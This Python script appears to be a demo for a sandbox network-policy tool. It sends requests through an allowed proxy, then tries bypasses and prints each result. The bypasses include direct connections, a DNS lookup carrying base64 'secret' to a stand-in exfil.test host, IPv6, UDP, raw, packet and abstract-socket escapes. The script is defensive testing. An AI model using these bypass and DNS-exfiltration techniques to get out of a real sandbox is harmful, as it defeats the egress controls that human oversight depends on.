#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What `make demo` runs inside the sandbox: ordinary requests through the
proxy (HTTP_PROXY is set), the same without it (the kernel redirects them),
and the usual ways around a proxy, each printed with what happened to it."""
import errno
import os
import socket
import urllib.error
import urllib.request


class Forbidden(Exception):
    """The transparent proxy answered a plain HTTP request with 403."""


def attempt(what, fn):
    try:
        res = fn()
        print(f"  {what:<55} ok: {res}", flush=True)
    except urllib.error.HTTPError as e:
        why = e.headers.get("x-proxy-error", "")
        print(f"  {what:<55} refused: HTTP {e.code} {why}", flush=True)
    except Forbidden as e:
        print(f"  {what:<55} refused: {e}", flush=True)
    except OSError as e:
        if isinstance(e, urllib.error.URLError) and isinstance(e.reason, OSError):
            e = e.reason
        name = errno.errorcode.get(e.errno, str(e)) if e.errno else str(e)
        print(f"  {what:<55} refused: {name}", flush=True)


def via_proxy(url):
    with urllib.request.urlopen(url, timeout=5) as r:
        return f"HTTP {r.status}"


def direct_http(host, port=80):
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(f"GET / HTTP/1.0\r\nHost: {host}\r\n\r\n".encode())
    line = s.recv(200).split(b"\r\n")[0].decode()
    if not line:
        raise ConnectionResetError(errno.ECONNRESET, "reset")
    if " 403 " in line:
        raise Forbidden(line)
    return line


def resolve(name):
    return socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0]


def tcp(addr, port, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((addr, port))
    return "connected"


def udp(addr, port):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (addr, port))
    return "sent"


def sock(fam, typ, proto=0):
    socket.socket(fam, typ, proto).close()
    return "created"


def abstract(name):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\0" + name)
    return "connected"


print(f"HTTP_PROXY={os.environ.get('HTTP_PROXY')}")
print("allowed by --allow www.demo.test:")
attempt("GET http://www.demo.test/ through the proxy", lambda: via_proxy("http://www.demo.test/"))
attempt("GET http://www.demo.test/ ignoring the proxy", lambda: direct_http("www.demo.test"))
attempt("DNS lookup of www.demo.test", lambda: resolve("www.demo.test"))
print("denied by the policy:")
attempt("GET http://blocked.test/ through the proxy", lambda: via_proxy("http://blocked.test/"))
attempt("GET http://198.18.0.1/ ignoring the proxy (no name)", lambda: direct_http("198.18.0.1"))
attempt("DNS lookup of c2VjcmV0.exfil.test (exfiltration)", lambda: resolve("c2VjcmV0.exfil.test"))
print("escape attempts:")
attempt("IPv6 TCP to [2001:db8:1::1]:80", lambda: tcp("2001:db8:1::1", 80, socket.AF_INET6))
attempt("UDP to 203.0.113.10:443 (QUIC-like)", lambda: udp("203.0.113.10", 443))
attempt("raw ICMP socket", lambda: sock(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet socket", lambda: sock(socket.AF_PACKET, socket.SOCK_RAW))
attempt("MPTCP socket", lambda: sock(socket.AF_INET, socket.SOCK_STREAM, 262))
attempt("abstract unix socket @egressctl-demo", lambda: abstract("egressctl-demo"))
attempt("host loopback service 127.0.0.1:9 (not this cgroup's)", lambda: tcp("127.0.0.1", 9))
